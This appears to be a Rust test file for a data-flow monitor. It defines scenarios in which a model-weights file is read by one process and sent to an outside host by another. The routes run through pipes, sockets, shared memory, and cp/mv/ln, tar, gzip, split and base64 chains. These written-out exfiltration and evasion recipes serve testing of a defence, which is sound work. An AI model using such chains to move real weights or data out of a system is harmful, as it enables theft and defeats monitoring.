//! One process reads and another sends: through pipes, unix sockets and files.

use super::{Outcome, outside, theft};
use tests::board::{MODEL, Played, Scenario, Stage};

pub const SCENARIOS: &[Scenario] = &[
    Scenario::new("pipe", "pipe", |stage| theft(stage, &["pipe"])),
    Scenario::new("fifo", "named pipe", |stage| theft(stage, &["fifo", "--place", "/tmp/f"])),
    Scenario::new("unix_stream", "unix stream socket", |stage| theft(stage, &["unix-stream", "--place", "/tmp/s"])),
    Scenario::new("unix_socketpair", "unix socket pair, inherited", |stage| theft(stage, &["socketpair"])),
    Scenario::new("unix_datagram", "unix datagrams", |stage| theft(stage, &["unix-datagram", "--place", "/tmp/d"])),
    Scenario::new("copy_in_tmp", "copy in /tmp", |stage| theft(stage, &["file", "--place", "/tmp/.cache"])),
    Scenario::new("copy_in_shm", "copy in /dev/shm", |stage| theft(stage, &["file", "--place", "/dev/shm/psm_1"])),
    Scenario::new("memfd", "memfd, inherited", |stage| theft(stage, &["memfd"])),
    Scenario::new("mapped_file", "a file that both map", |stage| theft(stage, &["map", "--place", "/tmp/map"])),
    Scenario::new("shared_memory", "memory that both have", |stage| theft(stage, &["shared-memory"])),
    Scenario::new("cp_then_send", "cp, then another process", cp),
    Scenario::new("copied_renamed_linked", "cp, mv, ln, then another", cp_mv_ln),
    Scenario::new("tar_in_a_pipe", "tar | send", tar),
    Scenario::new("tar_gzip_file", "tar | gzip > file, send", gzip),
    Scenario::new("split_files", "split into 1 MiB files", split),
    Scenario::new("base64", "base64 | send", base64),
    Scenario::new("copy_file_range", "copied within the kernel", |stage| {
        theft(stage, &["copy-file-range", "--place", "/models/llama/.cache"])
    }),
    Scenario::new("four_hops", "pipe, file, pipe, /dev/shm, send", hops),
];

/// `program` reads the model, as itself: the words that make the actor become it.
fn reader(program: &str) -> String {
    format!("$A become --role reader --file {MODEL} --truth 3 -- {program}")
}

/// A script in which the actor `$A` is sender at the end; what it sends is not the file itself.
fn script(stage: &mut Stage, script: &str) -> Outcome {
    let world = stage.world(&[])?;
    let lines = stage.script(&format!("exec 3>&1; {}", script.replace("TO", &format!("--to {}", outside()))))?;
    Ok(Played::Attack(stage.truth_of(&lines, None, world, false)?))
}

fn cp(stage: &mut Stage) -> Outcome {
    let cp = reader(&format!("cp {MODEL} /tmp/a"));
    script(stage, &format!("{cp}; $A theft stdin TO < /tmp/a"))
}

fn cp_mv_ln(stage: &mut Stage) -> Outcome {
    let cp = reader(&format!("cp {MODEL} /tmp/a"));
    script(stage, &format!("{cp}; mv /tmp/a /tmp/b; ln /tmp/b /tmp/c; rm /tmp/b; $A theft stdin TO < /tmp/c"))
}

fn tar(stage: &mut Stage) -> Outcome {
    let tar = reader("tar -C /models -cf - llama/model.safetensors");
    script(stage, &format!("{tar} | $A theft stdin TO"))
}

fn gzip(stage: &mut Stage) -> Outcome {
    let tar = reader("tar -C /models -cf - llama/model.safetensors");
    script(stage, &format!("{tar} | gzip -1 > /tmp/logs.gz; $A theft stdin TO < /tmp/logs.gz"))
}

fn split(stage: &mut Stage) -> Outcome {
    let split = reader(&format!("split -b 1048576 {MODEL} /tmp/part-"));
    script(stage, &format!("{split}; for part in /tmp/part-*; do $A theft stdin TO < $part; done"))
}

fn base64(stage: &mut Stage) -> Outcome {
    let base64 = reader(&format!("base64 -w 0 {MODEL}"));
    script(stage, &format!("{base64} | $A theft stdin TO"))
}

fn hops(stage: &mut Stage) -> Outcome {
    let cat = reader(&format!("cat {MODEL}"));
    script(
        stage,
        &format!(
            "{cat} | dd of=/tmp/1 status=none; cat /tmp/1 | gzip -1 | base64 > /dev/shm/2; $A theft stdin TO < /dev/shm/2"
        ),
    )
}
